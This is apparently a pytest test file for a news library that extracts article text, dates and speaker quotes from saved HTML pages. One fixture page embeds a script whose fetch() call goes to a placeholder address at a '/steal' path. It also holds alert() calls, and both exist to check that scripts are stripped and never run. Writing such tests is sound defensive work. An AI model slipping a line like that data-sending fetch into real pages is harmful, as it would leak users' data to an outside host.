"""Saved HTML pages: article text extracted, scripts never run, clear errors."""

from __future__ import annotations

import datetime as dt

import pytest

from newslib import ArticleError, ArticleWarning, quotes, read_article, read_corpus

PAGE = """<!DOCTYPE html><html><head><title>Putin mobilises reservists</title>
<meta property="article:published_time" content="2022-09-21T09:30:00Z">
<script>document.title = "hacked"; fetch("http://192.0.2.1/steal");</script>
</head><body onload="alert('x')">
<nav><a href="/">Home</a> | <a href="/news">News</a></nav>
<article><h1>Putin mobilises reservists</h1>
<p>Vladimir Putin is "sending tens of thousands of Russians to their deaths", the UK's defence
secretary has said.</p>
<p>Ben Wallace was responding to the news that the Russian president would mobilise 300,000
military reservists.</p>
<p>Mr Wallace said Russian troops were "ill-equipped and badly led" and that they were losing
the war in Ukraine.</p>
<script>alert("inline")</script>
</article>
<footer>Copyright 2022 Example News. All rights reserved.</footer></body></html>"""


def test_html_page_gives_the_article_text_date_and_quotes(make_file):
    path = make_file("saved.html", PAGE)
    with pytest.warns(ArticleWarning, match="date taken from the page's metadata"):
        article = read_article(path)
    assert article.date == dt.date(2022, 9, 21)
    assert article.meta["title"] == "Putin mobilises reservists"
    assert len(article.paragraphs) == 3
    assert article.paragraphs[0].text.startswith("Vladimir Putin is")
    for unwanted in ("alert", "hacked", "Copyright", "Home", "fetch"):
        assert unwanted not in article.body
    table = quotes(article)
    assert table["speaker"].tolist() == ["Ben Wallace", "Ben Wallace"]


def test_html_without_article_text_is_a_clear_error(make_file):
    path = make_file("empty.html", "<html><head><script>alert(1)</script></head><body></body></html>")
    with pytest.raises(ArticleError) as caught:
        read_article(path)
    assert str(caught.value) == f"{path}: no article text found in this HTML page"


def test_html_pages_in_a_folder_beside_text_files(make_file, seed_path):
    make_file("mixed/page.html", PAGE)
    make_file("mixed/seed.txt", seed_path.read_text(encoding="utf-8"))
    make_file("mixed/broken.html", "<html><body><script>var x = 1;</script></body></html>")
    make_file("mixed/menu.html", "<html><body><nav>Home | News | Sport</nav></body></html>")
    folder = make_file("mixed/page.html", PAGE).parent
    corpus = read_corpus(folder, on_error="collect")
    assert sorted(a.id for a in corpus) == ["menu", "page", "seed"]
    assert [e.source.rsplit("/", 1)[-1] for e in corpus.errors] == ["broken.html"]
    menu = next(a for a in corpus if a.id == "menu")
    assert any("the page may not be an article" in w for w in menu.warnings)
